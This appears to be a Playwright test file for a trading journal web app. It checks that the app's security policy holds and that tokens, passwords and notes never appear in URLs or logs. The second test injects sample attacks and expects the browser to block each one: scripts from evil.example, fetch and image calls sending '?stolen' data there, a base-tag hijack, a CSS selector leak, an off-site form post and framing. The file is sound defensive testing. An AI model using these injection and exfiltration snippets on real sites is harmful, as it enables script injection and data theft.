import { chooseFiles, controls, fillTrade } from '../src/add-trade.ts';
import { png } from '../src/media.ts';
import { expect, type Locator, type Page, test } from '../src/test.ts';
import { signIn } from '../src/traders.ts';

/** Collects the violations of the page's security policy, across navigations. */
const watchViolations = async (page: Page): Promise<string[]> => {
  const violations: string[] = [];
  await page.exposeFunction('noteViolation', (text: string) => violations.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      const { noteViolation } = window as unknown as { noteViolation(text: string): void };
      noteViolation(`${effectiveDirective} ${blockedURI}`);
    });
  });
  return violations;
};

/** Records the URLs of all requests, and the tokens that were sent. */
const watchRequests = (page: Page) => {
  const urls = [] as string[];
  const tokens = new Set<string>();
  page.on('request', (request) => {
    urls.push(request.url());
    const token = request.headers().authorization?.replace('Bearer ', '');
    if (token) tokens.add(token);
  });
  return { urls, tokens };
};

const note = 'nobody else may read this note';

const addTradeWithPicture = async (page: Page): Promise<void> => {
  await page.goto('/add-trade');
  await fillTrade(page, 'hidden');
  await controls(page).notes.fill(note);
  await chooseFiles(page, [png('chart.png')]);
  await controls(page).save.click();
  await page.waitForURL(/\/trades(\?|$)/);
  await page.goto('/trades/1');
  await page.getByRole('button', { name: 'Enlarge chart.png' }).click();
  await expect(page.getByRole('dialog').getByRole('img', { name: 'chart.png' })).toBeVisible();
};

/** What each page shows last. */
const pages: Record<string, (page: Page) => Locator> = {
  '/': (page) => page.getByRole('img').first(),
  '/trades': (page) => page.getByRole('link', { name: /HIDDEN/ }),
  '/dashboard': (page) => page.getByRole('link', { name: 'How insights are computed' }),
  '/analysis': (page) => page.getByRole('heading', { name: 'Account Page' }),
  '/manage-flags': (page) => page.getByRole('button', { name: 'Edit Breakout' }),
  '/account': (page) => page.getByRole('button', { name: 'Delete account' }),
};

test('the product works under its security policy; no URL and no log line contains a token, a password or a note (API-18)', async ({
  page,
  stack,
  trader,
}) => {
  const violations = await watchViolations(page);
  const { urls, tokens } = watchRequests(page);
  await signIn(page, trader);
  await addTradeWithPicture(page);
  for (const [path, findLastPart] of Object.entries(pages)) {
    await page.goto(path);
    await expect(findLastPart(page)).toBeVisible();
  }
  expect(violations).toEqual([]);
  expect(tokens.size).toBeGreaterThan(0);
  const requested = urls.join('\n');
  const logged = stack
    .logs()
    .split('\n')
    .filter((line) => /^(api|web|identity)/.test(line));
  expect(logged.some((line) => line.includes('POST /api/trades 201'))).toBe(true);
  for (const secret of [...tokens, trader.password, note, encodeURIComponent(note)]) {
    expect(requested.includes(secret)).toBe(false);
    expect(logged.some((line) => line.includes(secret))).toBe(false);
  }
});

test.describe('injected content', () => {
  test.use({
    allowedConsoleErrors: /Content Security Policy|Framing|Permissions policy|Refused|This document requires 'Trusted/i,
  });

  test('cannot run a script, call another site, submit a form or frame the product (API-18)', async ({
    page,
    stack,
  }) => {
    const violations = await watchViolations(page);
    await page.goto('/signin');
    const forbidden = async (directive: string, attempt: () => void) => {
      violations.length = 0;
      // Trusted Types throw.
      await page.evaluate(attempt).catch(() => undefined);
      await expect
        .poll(() => violations.some((each) => new RegExp(`^(?:${directive})`).test(each)), directive)
        .toBe(true);
    };
    await forbidden('require-trusted-types-for trusted-types-sink', () => {
      const script = document.createElement('script');
      script.textContent = 'document.title = "taken"';
      document.body.append(script);
    });
    await forbidden('require-trusted-types-for', () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/x.js';
      document.body.append(script);
    });
    await forbidden('require-trusted-types-for', () => {
      document.body.insertAdjacentHTML('beforeend', '<b onclick="document.title = `taken`">x</b>');
    });
    await forbidden('script-src-elem https://evil.example', () => {
      void import(`${'https://evil.example'}/x.js`).catch(() => undefined);
    });
    await forbidden('require-trusted-types-for', () => {
      // From a timer, because Playwright's own calls may evaluate.
      setTimeout('document.title = "taken"');
    });
    await forbidden('style-src-elem inline', () => {
      document.body.append(document.createElement('style'));
      const style = document.body.lastElementChild as HTMLStyleElement;
      style.textContent = 'input[value^=a] { background: red }';
    });
    await forbidden('connect-src', () => void fetch('https://evil.example/?stolen').catch(() => undefined));
    await forbidden('img-src', () => {
      new Image().src = 'https://evil.example/?stolen';
    });
    await forbidden('base-uri', () => {
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
    });
    await forbidden('object-src|require-trusted-types-for', () => {
      document.body.append(Object.assign(document.createElement('object'), { data: '/x.swf' }));
    });
    await expect(page).toHaveTitle('Sign In · Trading Journal');
    await forbidden('form-action', () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      document.body.append(form);
      form.requestSubmit();
    });
    const other = await page.context().newPage();
    await other.setContent(`<iframe src="${stack.url}/signin"></iframe>`);
    await expect(other.frameLocator('iframe').getByRole('heading', { name: 'Sign In' })).toHaveCount(0);
  });
});
